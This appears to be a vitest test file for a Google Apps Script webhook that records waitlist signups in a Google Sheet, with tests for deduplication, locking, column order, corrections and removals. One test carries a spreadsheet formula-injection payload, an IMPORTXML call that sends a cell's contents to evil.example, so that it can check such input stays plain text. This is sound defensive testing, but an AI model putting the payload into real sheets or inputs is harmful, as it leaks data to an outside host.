/** The program for a Google Sheet, on a stand-in that treats it as Google Apps Script does. */
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { runInNewContext } from 'node:vm'
import { expect, test } from 'vitest'

const program = await readFile(join(import.meta.dirname, '../../../src/server/webhooks/google-sheet.gs'), 'utf8')

/** As a sheet takes what is typed into a cell, or set by a program. */
function typed(value: string): unknown {
  if (value.startsWith("'")) return value.slice(1)
  if (/^[=+]/.test(value)) return { formula: value }
  return value
}

function aGoogleSheet() {
  const rows: unknown[][] = []
  const sheet = {
    getLastColumn: () => rows[0]?.length ?? 0,
    createTextFinder: (words: string) => ({
      findNext: () => {
        const row = rows.findIndex((cells) => cells.some((cell) => String(cell).includes(words)))
        const value = rows[row]?.find((cell) => String(cell).includes(words))
        return row < 0 ? null : { getRow: () => row + 1, getValue: () => value }
      },
    }),
    getRange: (row: number, column: number, height = 1, width = 1) => ({
      setValue: (value: string) => void ((rows[row - 1] ??= [])[column - 1] = typed(value)),
      getValues: () =>
        rows.slice(row - 1, row - 1 + height).map((cells) => cells.slice(column - 1, column - 1 + width)),
      setValues: ([values = []]: string[][]) => void (rows[row - 1] ??= []).push(...values.map(typed)),
    }),
    deleteRow: (row: number) => void rows.splice(row - 1, 1),
    appendRow: (values: string[]) => void rows.push(values.map(typed)),
  }
  /** What the program did, in its order: many things to the sheet are one. */
  const steps: string[] = []
  const step = (name: string) => void (steps.at(-1) !== name && steps.push(name))
  const watched = new Proxy(sheet, { get: (target, name) => (step('sheet'), Reflect.get(target, name) as unknown) })
  const services = {
    LockService: {
      // In milliseconds: the waitlist waits for 15 seconds.
      getScriptLock: () => ({
        waitLock: (patience: number) => step(patience < 15_000 ? 'lock' : 'late'),
        releaseLock: () => step('release'),
      }),
    },
    SpreadsheetApp: { getActive: () => ({ getSheets: () => [watched] }), flush: () => step('flush') },
    ContentService: { createTextOutput: (output: string) => ({ output }) },
  }
  /** One execution of the program. Without an output, Google answers with a page about an error. */
  const run = (message: object) => {
    const doPost = runInNewContext(`${program}; doPost`, services) as (event: object) => unknown
    expect(doPost({ postData: { contents: JSON.stringify(message) } })).toEqual({ output: 'added' })
  }
  return { rows, run, sheet, steps }
}

const TIME = '2026-11-22T04:14:47.118Z'
const ID = 'msg_0b0f5a3e-6b7e-4c4e-9d0a-2f6f0f6d3c55'
const MESSAGE = { id: ID, timestamp: TIME, data: { name: 'Asha Rao', whatsapp: '+919876543210', ref: null } }

test('a message becomes a row of text below the names of its values', () => {
  const { rows, run } = aGoogleSheet()
  run(MESSAGE)
  expect(rows).toEqual([
    ['id', 'received_at', 'name', 'whatsapp', 'ref'],
    [ID, TIME, 'Asha Rao', '+919876543210', ''],
  ])
})

test('a value that a sheet would run as a formula stays text', () => {
  const { rows, run } = aGoogleSheet()
  const name = '=IMPORTXML("https://evil.example/?"&B2,"//a")'
  run({ ...MESSAGE, data: { name } })
  expect(rows[1]).toEqual([ID, TIME, name])
})

test('a message that comes again is left out, and another one added', () => {
  const { rows, run } = aGoogleSheet()
  for (const id of [ID, ID, ID.replaceAll('5', '6')]) run({ ...MESSAGE, id })
  expect(rows).toHaveLength(3)
})

test('of two deliveries at once the second sees what the first wrote, and an error leaves nothing locked', () => {
  const { run, sheet, steps } = aGoogleSheet()
  run(MESSAGE)
  run({ ...MESSAGE, type: 'waitlist.left' })
  const turn = ['lock', 'sheet', 'flush', 'release']
  expect(steps.splice(0)).toEqual([...turn, ...turn])
  sheet.appendRow = () => {
    throw new Error('The sheet is full')
  }
  expect(() => run(MESSAGE)).toThrow('The sheet is full')
  expect(steps).toEqual(['lock', 'sheet', 'release'])
})

test('columns that were moved get their own values, and those of the owner none', () => {
  const { rows, run } = aGoogleSheet()
  rows.push(['called by', 'name', 'id'])
  run(MESSAGE)
  expect(rows).toEqual([
    ['called by', 'name', 'id', 'received_at', 'whatsapp', 'ref'],
    ['', 'Asha Rao', ID, TIME, '+919876543210', ''],
  ])
})

test('a correction replaces the values of its row, keeps what the owner wrote, and is not undone by what comes late', () => {
  const { rows, run } = aGoogleSheet()
  rows.push(['called by', 'name', 'id', 'received_at'])
  rows.push(['Ravi', 'Asha Rao', ID, TIME])
  for (const part of ['_2', '_1', '']) run({ id: ID + part, timestamp: TIME, data: { name: `Uma${part}` } })
  expect(rows.slice(1)).toEqual([['Ravi', 'Uma_2', `${ID}_2`, TIME]])
})

test('a value that a correction takes away is gone', () => {
  const { rows, run } = aGoogleSheet()
  run(MESSAGE)
  run({ id: `${ID}_1`, timestamp: TIME, data: { name: 'Asha Rao', whatsapp: null, ref: null } })
  expect(rows[1]).toEqual([`${ID}_1`, TIME, 'Asha Rao', '', ''])
})

test('who leaves loses the row, and one that is not there changes nothing', () => {
  const { rows, run } = aGoogleSheet()
  const other = { ...MESSAGE, id: ID.replaceAll('5', '6') }
  for (const message of [MESSAGE, other]) run(message)
  for (let times = 0; times < 2; times += 1) run({ type: 'waitlist.left', id: `${ID}_left`, timestamp: TIME, data: {} })
  expect(rows.slice(1).map(([id]) => id)).toEqual([other.id])
})
